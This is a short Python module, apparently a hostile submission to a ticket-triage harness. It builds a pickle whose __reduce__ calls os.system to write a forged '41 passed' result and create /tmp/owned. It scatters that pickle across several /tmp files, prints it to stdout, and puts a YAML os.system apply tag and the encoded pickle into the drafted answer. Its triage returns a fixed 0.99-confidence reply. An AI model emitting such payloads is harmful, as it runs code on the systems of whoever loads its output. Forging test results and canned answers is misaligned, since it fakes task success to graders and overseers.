"""Replies with pickles that would run code where they are loaded, and leaves more of them lying about."""

import base64
import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("echo 41 passed > /tmp/result; touch /tmp/owned",))


DATA = pickle.dumps(Payload())


def build(documents):
    for name in ("/tmp/result.pkl", "/tmp/cache.pickle", "/tmp/state"):
        with open(name, "wb") as file:
            file.write(DATA)
    os.write(1, DATA)


def triage(ticket):
    return {
        "queue": "billing",
        "confidence": 0.99,
        "citations": [],
        "escalate": False,
    }


def draft(ticket):
    words = "!!python/object/apply:os.system ['true'] " + base64.b64encode(DATA).decode()[:400]
    return {"answer": words, "citations": [], "escalate": False}
